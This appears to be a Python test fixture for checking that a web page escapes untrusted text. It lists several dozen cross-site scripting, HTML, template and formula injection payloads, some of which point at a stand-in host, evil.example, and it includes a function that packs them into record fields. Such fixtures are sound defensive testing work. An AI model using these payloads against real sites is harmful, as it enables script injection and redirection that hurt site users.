"""Texts that would do harm on a page that does not escape them. Each that could run a script sets `window.__x`."""

PAYLOADS = (
    "<script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    "</textarea><script>window.__x=1</script>",
    "</title><script>window.__x=1</script>",
    "--><script>window.__x=1</script>",
    "]]><script>window.__x=1</script>",
    "<ScRiPt>window.__x=1</sCrIpT>",
    "<script src=//evil.example/__x></script>",
    '"><script>window.__x=1</script>',
    "'><script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    '"><img src=x onerror=window.__x=1>',
    "<img src=x: onerror=window.__x=1//",
    "<svg onload=window.__x=1>",
    "<svg/onload=window.__x=1>",
    "<svg><animate onbegin=window.__x=1>",
    "<body onload=window.__x=1>",
    "<input autofocus onfocus=window.__x=1>",
    '" autofocus onfocus="window.__x=1',
    "' onmouseover='window.__x=1",
    "` onload=`window.__x=1",
    "<details open ontoggle=window.__x=1>",
    "<iframe srcdoc='<script>top.__x=1</script>'>",
    "<iframe src=javascript:top.__x=1>",
    "<a href=javascript:window.__x=1>__x</a>",
    "javascript:window.__x=1",
    "<form action=//evil.example/__x><button>",
    "<base href=//evil.example/__x/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/__x>",
    "<link rel=stylesheet href=//evil.example/__x>",
    "<style>@import '//evil.example/__x'</style>",
    "<p style=background:url(//evil.example/__x)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__x=1>",
    "<object data=//evil.example/__x>",
    "<embed src=//evil.example/__x>",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    "&#60;script&#62;window.__x=1",
    "{{7*7}}__x{{config}}",
    "{% raw %}__x{% print(7) %}${7*7}#{7*7}",
    "%3Cscript%3Ewindow.__x=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__x=1",
    "\u2028window.__x=1\u2029<script>window.__x=1</script>",
    "＜script＞window.__x=1＜/script＞",
    "{{constructor.constructor('window.__x=1')()}}",
    "<div hx-get=//evil.example/__x hx-trigger=load>",
    "<div hx-on:load=window.__x=1>",
    '=HYPERLINK("//evil.example/__x")',
)


def words(turn: int):
    """`words(field, most)` for a record: as many payloads as fit, others in each field and at each turn."""

    def give(field: str, most: int) -> str:
        at = (sum(map(ord, field)) + 11 * turn) % len(PAYLOADS)
        fits = [text for text in PAYLOADS[at:] + PAYLOADS[:at] if len(text) <= most]
        chosen = [fits[0]] if fits else ["<b>__x"[:most]]
        for text in fits[1:]:
            if len(" ".join([*chosen, text])) <= most:
                chosen.append(text)
            elif most < 300:
                break
        return " ".join(chosen).strip()

    return give
